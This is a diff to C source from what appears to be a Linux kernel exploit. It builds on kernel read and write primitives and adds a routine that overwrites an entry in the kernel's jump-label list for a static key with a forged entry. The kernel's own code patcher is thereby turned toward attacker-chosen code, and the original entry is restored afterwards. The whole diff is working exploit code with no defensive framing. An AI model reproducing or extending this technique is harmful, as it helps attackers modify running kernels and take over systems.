@@ -78,13 +78,18 @@ static uint64_t forge_list(uint64_t entries, uint64_t own)
 	return kwrite(page.addr, list, sizeof(list)) ? 0 : page.addr;
 }
 
-static int write_entry(uint64_t at, uint64_t code, uint64_t target, uint64_t key)
+static struct jump_entry make_entry(uint64_t at, uint64_t code, uint64_t target, uint64_t key)
 {
-	struct jump_entry entry = {
+	return (struct jump_entry) {
 		.code = code - at,
 		.target = target - at - sizeof(int),
 		.key = key - at - 2 * sizeof(int),
 	};
+}
+
+static int write_entry(uint64_t at, uint64_t code, uint64_t target, uint64_t key)
+{
+	struct jump_entry entry = make_entry(at, code, target, key);
 
 	return kwrite(at, &entry, sizeof(entry));
 }
@@ -160,6 +165,38 @@ enum outcome jump_label(void)
 	outcome = patch_by_key(code, NULL);
 	kwrite64(key + KEY_ENTRIES, old);
 	kwrite(at, "\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0", sizeof(struct jump_entry));
+	return outcome;
+}
+
+/* The kernel's own list of places, in read-only memory; 0 if it is not known. */
+uint64_t patched_entry(void)
+{
+	return kread64(ksymbol(KEY) + KEY_ENTRIES) & ~3UL;
+}
+
+static bool is_entry(uint64_t at, uint64_t code)
+{
+	struct jump_entry entry;
+
+	return !kread(at, &entry, sizeof(entry)) && at + entry.code == code;
+}
+
+/* The first of the key's own places is another one for a while. */
+enum outcome patch_by_own_entry(bool (*store)(uint64_t addr, void *data, size_t len))
+{
+	uint64_t at = patched_entry(), code = find_code(), target = find_target();
+	struct jump_entry old, entry;
+	enum outcome outcome;
+
+	if (kread64(ksymbol(KEY)) || !code || !target || kread(at, &old, sizeof(old)))
+		return broken("no static key, or no place that can be patched");
+	entry = make_entry(at, code, target, ksymbol(KEY));
+	if (!store(at, &entry, sizeof(entry)))
+		return broken("no way to write there");
+	if (!is_entry(at, code))
+		return lost("the kernel's list of places is as it was");
+	outcome = patch_by_key(code, NULL);
+	store(at, &old, sizeof(old));
 	return outcome;
 }
 
